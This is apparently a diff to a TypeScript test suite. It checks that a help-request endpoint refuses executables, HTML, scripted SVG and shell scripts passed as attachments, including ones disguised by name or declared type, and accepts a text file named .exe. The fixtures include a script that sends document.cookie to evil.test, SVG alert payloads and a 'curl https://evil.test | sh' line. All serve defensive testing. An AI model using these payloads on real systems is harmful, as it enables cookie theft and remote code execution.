@@ -56,14 +56,61 @@ describeEachDatabase('help request and analytics', (context) => {
     const mail = await server.mail.catcher!.waitFor((caught) => caught.subject.includes('Contacter le service client'));
     expect(mail.attachments[0]?.size).toBe(HELP_ATTACHMENT_MAX_BYTES);
 
-    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 1, 2, 3]);
+    const csv = Buffer.from('nom;société\nDupont;Atlas\n');
     const dataUrl = await server.api.call('POST', HELP, {
       token,
-      body: { request_type: 'training', message: 'Capture', attachment: { file_content: `data:image/png;base64,${png.toString('base64')}`, file_name: 'capture.png', file_type: 'image/png' } },
+      body: { request_type: 'training', message: 'Export', attachment: { file_content: `data:text/csv;base64,${csv.toString('base64')}`, file_name: 'export.csv', file_type: 'text/csv' } },
     });
     expect(dataUrl.status).toBe(204);
-    const withImage = await server.mail.catcher!.waitFor((caught) => caught.subject.includes('Demander une formation'));
-    expect(withImage.attachments).toEqual([{ filename: 'capture.png', contentType: 'image/png', size: png.length }]);
+    const withCsv = await server.mail.catcher!.waitFor((caught) => caught.subject.includes('Demander une formation'));
+    expect(withCsv.attachments).toEqual([{ filename: 'export.csv', contentType: 'text/plain', size: csv.length }]);
+  });
+
+  it('allows an attachment by its content, not its name or declared type: .exe, HTML, SVG with a script refused; a text named .exe forwarded as text', async () => {
+    const exe = Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff, 0x00, 0x00, 0xb8, ...Buffer.from('This program cannot be run in DOS mode.')]);
+    const html = '<!DOCTYPE html><html><body><p>Bonjour</p><script>fetch("https://evil.test/?c=" + document.cookie)</script></body></html>';
+    const svg = '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>';
+    const base64 = (content: Buffer | string) => Buffer.from(content).toString('base64');
+    const refused: Record<string, { file_content: string; file_name: string; file_type: string; reason?: string }> = {
+      'an .exe as a data URL': { file_content: `data:application/x-msdownload;base64,${base64(exe)}`, file_name: 'outil.exe', file_type: 'application/x-msdownload' },
+      'an .exe renamed .txt': { file_content: `data:text/plain;base64,${base64(exe)}`, file_name: 'notes.txt', file_type: 'text/plain', reason: 'binary' },
+      'an .exe with no type': { file_content: `data:;base64,${base64(exe)}`, file_name: 'outil', file_type: '', reason: 'binary' },
+      'an HTML page': { file_content: html, file_name: 'page.html', file_type: 'text/html' },
+      'an HTML page renamed .txt': { file_content: html, file_name: 'page.txt', file_type: 'text/plain' },
+      'an SVG with a script': { file_content: svg, file_name: 'logo.svg', file_type: 'image/svg+xml' },
+      'an SVG with a script renamed .txt': { file_content: svg, file_name: 'logo.txt', file_type: 'text/plain' },
+      'an SVG with a script as a data URL': { file_content: `data:text/plain;base64,${base64(svg)}`, file_name: 'logo.txt', file_type: 'text/plain', reason: 'markup' },
+      'a shell script': { file_content: '#!/bin/sh\ncurl https://evil.test | sh\n', file_name: 'install.txt', file_type: 'text/plain' },
+      'a text declared as an executable': { file_content: 'Bonjour', file_name: 'rapport.exe', file_type: 'application/x-msdownload' },
+    };
+    for (const [name, attachment] of Object.entries(refused)) {
+      const { reason, ...sent } = attachment;
+      const answer = await server.api.call<{ code: string; details?: { reason: string } }>('POST', HELP, {
+        token,
+        body: { request_type: 'bug_report', message: `Refusé : ${name}`, attachment: sent },
+      });
+      expect([answer.status, answer.body.code], name).toEqual([400, 'HELP.FILE_TYPE_NOT_ALLOWED']);
+      if (reason !== undefined) expect(answer.body.details?.reason, name).toBe(reason);
+    }
+    // An executable read as text by a browser holds NUL characters: refused by the contract's string rule, and as binary.
+    const readByBrowser = new TextDecoder().decode(exe);
+    const asText = await server.api.call<{ issues: { path: (string | number)[]; message: string }[] }>('POST', HELP, {
+      token,
+      body: { request_type: 'bug_report', message: 'Refusé : un .exe lu comme texte', attachment: { file_content: readByBrowser, file_name: 'outil.exe', file_type: '' } },
+    });
+    expect(asText.status).toBe(400);
+    expect(asText.body.issues).toContainEqual({ path: ['attachment', 'file_content'], message: 'HELP.FILE_TYPE_NOT_ALLOWED' });
+
+    // A text named .exe is text: accepted, and forwarded as text/plain under a .txt name (never run at support).
+    const text = 'Journal de la recherche\n10:00 délai dépassé\n';
+    const renamed = await server.api.call('POST', HELP, {
+      token,
+      body: { request_type: 'bug_report', message: 'Accepté : un texte nommé .exe', attachment: { file_content: text, file_name: 'rapport.exe', file_type: 'application/octet-stream' } },
+    });
+    expect(renamed.status).toBe(204);
+    const mail = await server.mail.catcher!.waitFor((caught) => caught.text?.includes('Accepté : un texte nommé .exe') === true);
+    expect(mail.attachments).toEqual([{ filename: 'rapport.exe.txt', contentType: 'text/plain', size: Buffer.byteLength(text) }]);
+    expect(server.mail.catcher!.list().filter((caught) => caught.text?.includes('Refusé') === true)).toEqual([]);
   });
 
   it('answers 400 with the spec’s codes: message required, file too large; 413 beyond the body limit; 401 anonymous', async () => {
